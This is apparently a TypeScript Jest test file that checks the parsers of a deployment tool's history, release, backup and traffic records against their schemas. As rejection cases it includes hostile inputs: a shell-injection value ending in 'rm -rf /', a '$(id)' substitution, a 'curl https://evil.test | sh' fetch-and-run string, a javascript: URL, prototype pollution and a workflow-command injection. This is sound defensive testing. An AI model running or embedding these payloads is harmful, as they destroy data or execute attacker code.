import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, test } from '@jest/globals';
import { type Schema, validateSchema } from '@deploy-actions/document';
import fc from 'fast-check';
import { parseDeploymentRecord } from './deployment-record.ts';
import { parseBackupRecord, readBackups } from './backup-record.ts';
import { parseHistoryEntry, readHistory } from './history.ts';
import { parseReleaseRecord, readReleases } from './release-record.ts';
import {
  backedUp,
  dataRestored,
  backupRecord,
  deployed,
  lines,
  marked,
  moved,
  redeployed,
  releaseRecord,
  returned,
  rolledBack,
  rolledBackInPlace,
  switchConfirmed,
  trafficRecord,
} from './testing/index.ts';
import { parseTrafficRecord, readTraffic } from './traffic-record.ts';

const service = { name: 'web', image: 'web:1', replicas: 1, hash: 'a'.repeat(64), kind: 'long' as const };
const SAMPLES: Record<string, { parse(value: unknown): unknown; good: object[] }> = {
  history: {
    parse: parseHistoryEntry,
    good: [
      deployed('r1', { digests: { web: `web@sha256:${'a'.repeat(64)}` } }),
      deployed('r2', { outcome: 'interrupted', color: 'green' }),
      moved('blue', 'green-25', 'r2'),
      switchConfirmed('green', 'r2'),
      returned('green', 'blue', 'r1'),
      { ...switchConfirmed('blue', ''), operation: 'install', outcome: 'installed' },
      { ...switchConfirmed('blue', ''), operation: 'uninstall', outcome: 'uninstalled' },
      ...rolledBackInPlace('r2', 'r1'),
      marked('r2', 'taken-back'),
      rolledBack('r1', { previous: 'r2', data_taken_back: true }),
      redeployed('r1-green'),
      redeployed('r1-green', { data_taken_back: true }),
      backedUp('20260101-000000-ab12'),
      dataRestored('20260101-000000-ab12'),
      dataRestored('20260101-000000-ab12', { data_saved: '2026-01-01T00:00:00Z' }),
    ],
  },
  release: {
    parse: parseReleaseRecord,
    good: [
      releaseRecord('r1', '', {
        services: [service],
        images: { web: `sha256:${'b'.repeat(64)}` },
        hooks: { migrate: ['web: ./migrate'] },
      }),
      releaseRecord('r2', 'r1', {
        color: 'green',
        migrations: { ran: true, reversible: false, state_before: 'a', state_after: 'b' },
      }),
    ],
  },
  'deployment-record': {
    parse: parseDeploymentRecord,
    good: [
      {
        timestamp: '2026-01-31T12:00:00.123Z',
        deployment_id: '7-deploy',
        environment: 'production',
        status: 'rolled-back',
        git_sha: 'a'.repeat(40),
        git_ref: 'refs/heads/main',
        version: '1.4.0',
        release: 'r2',
        previous_release: 'r1',
        color: 'green',
        actor: 'octo',
        run_url: 'https://github.example/o/r/actions/runs/7',
        duration_ms: 1000,
        services_deployed: [{ service: 'web', image: `web@sha256:${'a'.repeat(64)}`, action: 'recreate' }],
        health_checks: [
          { service: 'web', healthy: true },
          { service: 'GET /health', healthy: false, source: 'health' },
        ],
        rollback_available: false,
        servers: [{ name: 'web1', outcome: 'deployed' }],
        reason: 'A release',
        approvals: [{ user: 'octo', state: 'approved', comment: '' }],
        phases: [{ name: 'deploy', ok: true, duration_ms: 900 }],
        rollback: 'flip',
        backup: 'b1',
      },
    ],
  },
  backup: {
    parse: parseBackupRecord,
    good: [
      backupRecord('20260101-000000-ab12'),
      backupRecord('b2', { release: '', verified: 'none', services: [], files: [] }),
    ],
  },
  traffic: {
    parse: parseTrafficRecord,
    good: [trafficRecord('green-25'), trafficRecord('blue', { routes: [] })],
  },
};

const schemaOf = (name: string) =>
  JSON.parse(readFileSync(join(__dirname, `../schema/${name}.schema.json`), 'utf8')) as Schema;

/** Values that are wrong in most places; each takes the place of every key in turn. */
const ODD = [
  undefined,
  null,
  0,
  1.5,
  -1,
  '',
  'green-25',
  'No id',
  true,
  [],
  ['x'],
  {},
  { web: 1 },
  'succeeded',
  'two\nlines',
  'javascript:alert(1)',
  'https://ci.example/1">',
  'c0ffee',
];

test.each(Object.keys(SAMPLES))('what the parser of %s takes is what its schema allows', async (name) => {
  const { parse, good } = SAMPLES[name]!;
  const schema = schemaOf(name);
  for (const record of good) {
    expect(parse(record)).toEqual(record);
    expect(await validateSchema(schema, record)).toEqual([]);
    for (const key of Object.keys(record)) {
      for (const odd of ODD) {
        const { [key]: _old, ...rest } = record as Record<string, unknown>;
        const changed = odd === undefined ? rest : { ...rest, [key]: odd };
        const allowed = (await validateSchema(schema, changed)).length === 0;
        expect({ changed, fits: typeof parse(changed) !== 'string' }).toEqual({ changed, fits: allowed });
      }
    }
  }
});

test('whatever a server says, reading it ends, and nothing is believed that has another form', () => {
  fc.assert(
    fc.property(fc.jsonValue(), (value) => {
      for (const { parse } of Object.values(SAMPLES)) {
        const read = parse(value);
        expect(
          typeof read === 'string' ||
            Object.hasOwn(value as object, 'operation') ||
            'id' in (read as object) ||
            'share' in (read as object),
        ).toBe(true);
      }
    }),
  );
  for (const value of [null, [], 'x', 3, { __proto__: { operation: 'deploy' } }]) {
    expect(parseHistoryEntry(value)).toEqual(expect.any(String));
  }
});

test('lines of older versions are read', () => {
  const old =
    '{"operation":"rollback","deployment_id":"7-d","release":"r1","color":"blue","from":"green","to":"blue","actor":"octo","run_url":"","reason":"x","outcome":"succeeded","bad":false,"at":"2026-01-01T00:00:00Z"}\n' +
    '{"operation":"rollback","deployment_id":"7-d","release":"r2","actor":"octo","run_url":"","outcome":"rolled-back","bad":true,"at":"2026-01-01T00:00:00Z"}\n';
  expect(readHistory(old)).toEqual({
    records: [
      expect.objectContaining({ release: 'r1', from: 'green', version: '', sha: '', environment: '' }),
      expect.objectContaining({ release: 'r2', bad: true }),
    ],
    unread: [],
  });
});

test('a line that cannot be read is told, and the others count', () => {
  const good = lines([deployed('r1')]);
  expect(
    readHistory(
      `${good}{"operation":"deploy","depl\n\n${lines([deployed('r2', { outcome: 'odd' as never })])}`,
    ),
  ).toEqual({
    records: [expect.objectContaining({ release: 'r1' })],
    unread: [
      'what a line of .deploy/history.jsonl says is left out, because it is not JSON: "{\\"operation\\":\\"deploy\\",\\"depl"',
      expect.stringContaining('because it "outcome" is not one of succeeded, unchanged'),
    ],
  });
});

test('releases are in the order in which they were made', () => {
  const text = lines([
    releaseRecord('r3', 'r2'),
    releaseRecord('r1'),
    { id: 'r2' },
    releaseRecord('r2', 'r1'),
  ]);
  const { records, unread } = readReleases(text);
  expect(records.map(({ id }) => id)).toEqual(['r1', 'r2', 'r3']);
  expect(unread).toEqual([expect.stringContaining('{\\"id\\":\\"r2\\"}')]);
});

test('a record of the traffic that cannot be read is none', () => {
  expect(readTraffic('')).toEqual({ record: undefined, unread: [] });
  expect(readTraffic(lines([trafficRecord('green')])).record).toMatchObject({ share: 'green' });
  const address = { ...trafficRecord('green').routes[0]!, green: ["127.0.0.1:80'; rm -rf /"] };
  for (const text of [
    '{"share":"gre',
    lines([{ ...trafficRecord('green'), share: 'red' }]),
    lines([trafficRecord('green', { routes: [address] })]),
  ]) {
    expect(readTraffic(text)).toEqual({ record: undefined, unread: [expect.any(String)] });
  }
});

test('backups are in the order in which they were begun', () => {
  const text = lines([
    backupRecord('b2', { created: '2026-01-02T00:00:00Z' }),
    backupRecord('b1', { created: '2026-01-01T00:00:00Z' }),
    { id: 'b3' },
  ]);
  const { records, unread } = readBackups(text);
  expect(records.map(({ id }) => id)).toEqual(['b1', 'b2']);
  expect(unread).toEqual([expect.stringContaining('manifest.json of a folder in backups')]);
});

test.each([
  { 'api $(id)': 'web:1' },
  { api: 'x"; curl https://evil.test | sh' },
  { api: 'web:1\n::error::x' },
])('images of another form are no images of a release: %j', (digests) => {
  expect(parseHistoryEntry({ ...deployed('r1'), digests })).toBe(
    '"digests" is not an object of services and their images',
  );
});
